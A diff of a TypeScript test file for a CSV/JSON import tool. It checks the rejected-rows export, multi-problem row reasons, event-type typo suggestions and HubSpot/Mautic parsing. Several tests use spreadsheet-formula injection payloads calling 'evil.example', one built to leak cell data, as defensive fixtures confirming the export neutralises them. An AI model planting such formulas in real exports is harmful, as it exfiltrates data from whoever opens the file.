@@ -1,5 +1,7 @@
 import { importFile, ImportFormatError, importText, rejectedRowsCsv, type ImportProgress } from '@/lib/import';
+import { nearest } from '@/lib/import/rows';
 import { MAX_RECORD_CHARS, RECORD_TOO_LONG } from '@/lib/import/text-chunks';
+import { ENGAGEMENT_TYPES } from '@/lib/model/engagement';
 import { closeDbForTests } from '@/lib/store/db';
 import { countEvents } from '@/lib/store/events';
 import { getProspect } from '@/lib/store/prospects';
@@ -128,27 +130,77 @@ describe('files that are not imports', () => {
 });
 
 describe('rejectedRowsCsv', () => {
-  it('writes line and reason, quoting reasons that need it', () => {
+  it("writes the file's own columns, then every problem of the row and its line, quoting what needs it", () => {
     const text = rejectedRowsCsv({
       rejectedRows: [
-        { line: 7, reason: "occurred_at 'yesterday' is not a date" },
-        { line: 9, reason: 'event_type \'foo\' is not one of a, b' },
+        { line: 7, reason: "occurred_at 'yesterday' is not a date", values: { email: 'a@x.example', occurred_at: 'yesterday' } },
+        { line: 9, reason: "event_type 'foo' is not an event type; lead_score 'x' is not a number", values: { email: 'b@x.example', occurred_at: '2026-11-01, 9:00' } },
+        { line: 11, reason: 'unterminated quote' },
       ],
     });
-    expect(text).toBe("line,reason\r\n7,occurred_at 'yesterday' is not a date\r\n9,\"event_type 'foo' is not one of a, b\"\r\n");
+    expect(text).toBe(
+      'email,occurred_at,reason,line\r\n' +
+        "a@x.example,yesterday,occurred_at 'yesterday' is not a date,7\r\n" +
+        "b@x.example,\"2026-11-01, 9:00\",event_type 'foo' is not an event type; lead_score 'x' is not a number,9\r\n" +
+        ',,unterminated quote,11\r\n',
+    );
   });
 
   it('neutralises spreadsheet formulas in a reason, as the exports do', () => {
     const text = rejectedRowsCsv({ rejectedRows: [{ line: 3, reason: '=HYPERLINK("https://evil.example","click") is not a single value' }] });
-    expect(text).toBe('line,reason\r\n3,"\'=HYPERLINK(""https://evil.example"",""click"") is not a single value"\r\n');
+    expect(text).toBe('reason,line\r\n"\'=HYPERLINK(""https://evil.example"",""click"") is not a single value",3\r\n');
   });
 
-  it('neutralises a formula that came from the imported file itself (a JSON key quoted in the reason)', async () => {
+  it('neutralises a formula that came from the imported file itself (a JSON key quoted in the reason, and as a column)', async () => {
     const key = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
     const summary = await importText(JSON.stringify([{ email: 'a@x.example', [key]: { x: 1 } }]), 'hostile.json');
-    expect(summary.rejectedRows).toEqual([{ line: 1, reason: `${key} is not a single value` }]);
+    expect(summary.rejectedRows).toEqual([{ line: 1, reason: `${key} is not a single value`, values: { email: 'a@x.example', [key]: '{"x":1}' } }]);
     const lines = rejectedRowsCsv(summary).split('\r\n');
-    expect(lines[1]).toMatch(/^1,"'=HYPERLINK/);
+    expect(lines[0]).toMatch(/^email,"'=HYPERLINK/);
+    expect(lines[1]).toMatch(/^a@x\.example,"\{""x"":1\}","'=HYPERLINK/);
+  });
+
+  it('a fixed download imports again: the two added columns are only reported as not imported', async () => {
+    const file = ['email,event_type,occurred_at', 'a@x.example,emial_open,2026-11-01', 'b@x.example,email_click,tomorrow-ish'].join('\n');
+    const first = await importText(file, 'typos.csv');
+    expect(first.rejected).toBe(2);
+    const fixed = rejectedRowsCsv(first).replace('emial_open', 'email_open').replace('tomorrow-ish', '2026-11-02');
+    const again = await importText(fixed, 'fixed.csv');
+    expect(again).toMatchObject({ imported: 2, rejected: 0, unknownColumns: ['reason', 'line'] });
+  });
+});
+
+describe('every problem of a row, and what a mistyped event type meant', () => {
+  it('names every problem of the row, in column order, not only the first', async () => {
+    const file = ['email,lead_score,event_type,occurred_at', 'not-an-email,seventy,emial_open,yesterday'].join('\n');
+    const summary = await importText(file, 'bad.csv');
+    expect(summary.rejectedRows[0]!.reason).toBe(
+      "email 'not-an-email' is not an email address; lead_score 'seventy' is not a number; " +
+        "event_type 'emial_open' is not an event type; did you mean 'email_open'?; occurred_at 'yesterday' is not a date",
+    );
+  });
+
+  it.each([
+    ['emial_open', 'email_open'],
+    ['Email Open', 'email_open'],
+    ['webinar', undefined], // two types contain it: no guess
+    ['pageview', 'page_view'],
+    ['unsubscribed', 'unsubscribe'],
+    ['download', 'content_download'],
+    ['foo', undefined],
+  ])('%s → %s', (typed, meant) => {
+    expect(nearest(typed, ENGAGEMENT_TYPES)).toBe(meant);
+  });
+
+  it('HubSpot and Mautic rows name every problem too', async () => {
+    const hubspot = ['Record ID,First Name,Email,HubSpot Score,Last Marketing Email Open Date', '1,Ana,ana@x.example,high,someday'].join('\n');
+    expect((await importText(hubspot, 'hubspot.csv')).rejectedRows[0]!.reason).toBe(
+      "HubSpot Score 'high' is not a number; Last Marketing Email Open Date 'someday' is not a date",
+    );
+    const mautic = ['id,firstname,lastname,email,points,last_active,date_identified', '2,Bo,Li,bad,many,never,2026-01-01'].join('\n');
+    expect((await importText(mautic, 'mautic.csv')).rejectedRows[0]!.reason).toBe(
+      "email 'bad' is not an email address; points 'many' is not a number; last_active 'never' is not a date",
+    );
   });
 });
 
